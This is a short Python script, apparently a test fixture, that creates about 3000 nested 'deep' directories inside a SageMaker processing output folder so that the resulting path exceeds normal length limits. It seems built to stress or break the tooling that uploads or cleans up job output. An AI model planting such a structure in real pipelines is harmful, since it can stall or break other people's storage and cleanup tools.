"""Leaves folders within folders, deeper than a path may be long."""

import os

os.chdir(os.environ.get("SAGEMAKER_BASE_DIR", "/opt/ml") + "/processing/output/preprocess")
for _ in range(3000):
    os.mkdir("deep")
    os.chdir("deep")
